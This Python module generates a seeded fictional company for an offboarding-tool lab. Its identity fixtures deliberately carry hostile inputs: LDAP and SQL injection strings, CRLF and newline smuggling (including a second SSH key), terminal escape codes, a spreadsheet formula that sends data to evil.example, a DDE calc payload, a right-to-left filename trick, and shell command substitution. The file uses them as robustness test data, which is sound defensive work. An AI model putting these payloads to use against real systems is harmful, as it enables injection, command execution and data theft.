"""The small company of the lab: who works there and what each may use, all drawn from one seed.

Pure: same seed, same company. No secret is made here (secrets are fresh at every start, see wallets.py).
Names and logins are hostile on purpose: they are what real HR systems and real people deliver.
"""
import random
from dataclasses import dataclass, field

BASE_DN = "dc=example,dc=org"
PEOPLE_COUNT = 25
OPERATOR, APPROVERS, HEIR = "E0003", ("E0002", "E0005"), "E0004"
FIRST_NAMES = ("Aino Björn Chiara Dmitri Esra Farid Greta Hugo Ingrid Jamal Keiko Lars Mona Nils Olga Pedro Quynh Rosa "
               "Sven Tove Ugo Vera Wim Xenia Yara Zoë Łukasz Søren José Anaïs").split()
LAST_NAMES = ("Adler Bauer Costa Dahl Eriksen Fontaine Garcia Haddad Ivanov Jensen Kowalski Lindqvist Moreau Nakamura "
              "Okafor Petrov Quist Rossi Schmidt Tanaka Ueda Virtanen Weber Yilmaz Zhang").split()
GROUPS = ("all-staff", "engineering", "finance", "operations", "release", "support", "audit", "report-team")
ROLE_GROUPS = ("analysts", "writers", "auditors", "ledger_admins")
SHARED_ROLES = ("report_rw", "etl_batch", "billing_ro")
DATABASES = ("sales", "stock")


@dataclass(frozen=True)
class Hostile:
    """One hostile identity: display name, directory uid, database role, Unix login (what each system allows)."""
    name: str
    uid: str
    role: str
    unix: str
    key_comment: str = ""


HOSTILE = (
    Hostile('Miles "The Chief" O\'Brien', "o'brien", "o'brien", "o%brien"),
    Hostile("Ada *)(uid=*)(|(cn=*", "ada*)(uid=*", 'ada*)(uid=*', "ada.l"),
    Hostile("Robert'); DROP TABLE people;--", "bobby'); drop", 'bobby"; DROP ROLE exeunt;--', "bobby drop"),
    Hostile("Smith, John+ou=admins\\2C <x=y>;#", "smith, j+x=\\y", "smith,j", "smith+j"),
    Hostile("Eve\nuserPassword: owned\r\nX", "eve\nx", "eve\nx", "eve"),
    Hostile("Mallory \x1b]0;owned\x07\x1b[2J\x1b[31m", "mallory\x1b[31m", "mallory\x1b[31m", "mallory"),
    Hostile('=HYPERLINK("http://evil.example/?x="&A1,"pay")', "=cmd|'/c calc'!a0", "=1+1", "calc"),
    Hostile("Rita \u202egnp.exe\u2066 Live", "rita\u202eexe", "rita\u202eexe", "rita"),
    Hostile("Key Ring", "keyring", "keyring", "keyring", "laptop of K\n"),  # a second key follows the newline
    Hostile("$(touch /tmp/x) `id` %s%n ${HOME}", "$(id)", "$user", "dollar$x"),
)
TWO_OF_ONE_NAME = ("Alex Kim", "akim", "alex.kim")


@dataclass
class Person:
    hr_id: str
    name: str
    email: str
    manager: str
    uid: str                      # directory uid, also the RDN
    role: str = ""                # PostgreSQL role, "" = none
    unix: str = ""                # account on the bastion, "" = none
    unix_uid: int = 0             # set when the slot's uid range is known
    groups: list = field(default_factory=list)
    role_groups: list = field(default_factory=list)
    shared_roles: list = field(default_factory=list)
    may_create_roles: bool = False
    created_roles: list = field(default_factory=list)
    functions: list = field(default_factory=list)   # (database, name, security definer)
    own_keys: int = 0
    key_comment: str = ""
    shared_accounts: list = field(default_factory=list)
    shared_with_own_key: bool = False               # the key in the shared account is her own first key
    certificates: int = 0                           # serials issued for one key and key id
    full: bool = False                              # holds every kind of way


@dataclass
class Company:
    seed: int
    people: list
    shared_roles: dict            # role -> {"known_to_group": cn} or {"known_to": [hr ids]}
    shared_accounts: list
    usual_way: str                # hr id of the demo's first leaver
    by_exeunt: str                # hr id of the demo's second leaver
    other_leavers: list

    def person(self, hr_id):
        return next(p for p in self.people if p.hr_id == hr_id)


def _identities(rng):
    """Display name, uid, role, unix login, key comment for each person, in HR order."""
    hostile = list(HOSTILE)
    rng.shuffle(hostile)
    firsts, lasts = rng.sample(FIRST_NAMES, 14), rng.sample(LAST_NAMES, 14)
    plain = []
    for first, last in zip(firsts, lasts):
        login = (first[0] + last).lower().encode("ascii", "ignore").decode() + str(rng.randint(1, 9))
        plain.append(Hostile(f"{first} {last}", login, login, login))
    staff = plain[:6]                                   # chief, approvers, operator, heir: nothing depends on luck
    rest = plain[6:13] + hostile + [Hostile(TWO_OF_ONE_NAME[0], u, u, u) for u in TWO_OF_ONE_NAME[1:]]
    rng.shuffle(rest)
    return staff + rest


def _give_everything(person, rng):
    person.full = True
    person.groups = sorted(set(person.groups) | {"all-staff", "report-team"} | set(rng.sample(GROUPS[1:7], 2)))
    person.role_groups = rng.sample(ROLE_GROUPS, rng.randint(2, 3))
    person.may_create_roles = True
    person.created_roles = [f"svc_{rng.choice(('cron', 'sync', 'export'))}_{rng.randint(10, 99)}"]
    person.functions = [(db, f"fn_{rng.randint(100, 999)}", True) for db in DATABASES]
    person.own_keys = rng.randint(2, 3)
    person.shared_accounts = ["deploy"]
    person.shared_with_own_key = rng.random() < 0.5
    person.certificates = 2


def _give_some(person, rng):
    person.groups = ["all-staff"] + rng.sample(GROUPS[1:], rng.randint(1, 3))
    if rng.random() < 0.7:
        person.role_groups = rng.sample(ROLE_GROUPS, rng.randint(1, 2))
        person.may_create_roles = rng.random() < 0.2
        if rng.random() < 0.4:
            person.functions = [(rng.choice(DATABASES), f"fn_{rng.randint(100, 999)}", rng.random() < 0.5)]
    else:
        person.role = ""
    if rng.random() < 0.7:
        person.own_keys = rng.randint(1, 2)
        person.shared_accounts = ["deploy"] if rng.random() < 0.4 else []
        person.shared_with_own_key = rng.random() < 0.5
        person.certificates = rng.choice((0, 0, 1, 2))
    else:
        person.unix = ""


def _share_roles(people, rng):
    """Which roles are shared, and who knows them: by group for the first, by name for the others."""
    names = SHARED_ROLES[: rng.randint(2, 3)]
    shared = {names[0]: {"known_to_group": "report-team"}}
    for person in people:
        if "report-team" in person.groups and person.role:
            person.shared_roles.append(names[0])
    for name in names[1:]:
        with_role = [p for p in people if p.role]
        knowing = [p for p in with_role if p.full and rng.random() < 0.6] + rng.sample(with_role, rng.randint(2, 4))
        shared[name] = {"known_to": sorted({p.hr_id for p in knowing})}
        for person in with_role:
            if person.hr_id in shared[name]["known_to"]:
                person.shared_roles.append(name)
    return shared


def generate(seed):
    """The company of this seed."""
    rng = random.Random(f"exeunt-lab-{seed}")
    people = []
    for index, who in enumerate(_identities(rng)):
        hr_id = f"E{index + 1:04d}"
        manager = "" if index == 0 else ("E0001" if index < 6 else rng.choice((HEIR, "E0006")))
        mail = f"{'.'.join(c for c in who.unix if c.isalnum())[:20].replace('.', '')}.{index + 1}@example.org"
        person = Person(hr_id, who.name, mail, manager, who.uid, who.role, who.unix, key_comment=who.key_comment)
        people.append(person)
    hostile = {h.name for h in HOSTILE}
    candidates = people[6:]
    plain = [p for p in candidates if p.name not in hostile and p.name != TWO_OF_ONE_NAME[0]]
    odd = [p for p in candidates if p.name in hostile]
    usual_way = rng.choice(plain)
    by_exeunt = rng.choice(odd if seed % 2 == 0 else [p for p in plain if p is not usual_way])
    others = [p for p in rng.sample(odd, 4) if p is not by_exeunt][:3]
    others.append(next(p for p in people if p.name == TWO_OF_ONE_NAME[0]))
    for person in people:
        if person in (usual_way, by_exeunt) or person in others:
            _give_everything(person, rng)
        else:
            _give_some(person, rng)
    shared_roles = _share_roles(people, rng)
    shared_accounts = ["deploy"] + (["builder"] if rng.random() < 0.5 else [])
    if "builder" in shared_accounts:
        for person in people:
            if person.unix and (person.full or rng.random() < 0.3):
                person.shared_accounts.append("builder")
    return Company(seed, people, shared_roles, shared_accounts, usual_way.hr_id, by_exeunt.hr_id,
                   [p.hr_id for p in others])


def write_out(company):
    """What the seed made, in words (lab.py prints it)."""
    full = sum(p.full for p in company.people)
    return (f"seed {company.seed}: {len(company.people)} people ({full} hold every kind of way), "
            f"{sum(bool(p.role) for p in company.people)} database roles, "
            f"{sum(bool(p.unix) for p in company.people)} Unix accounts, shared roles {', '.join(company.shared_roles)}, "
            f"shared accounts {', '.join(company.shared_accounts)}; usual way {company.usual_way}, "
            f"by Exeunt {company.by_exeunt}, other leavers {', '.join(company.other_leavers)}")
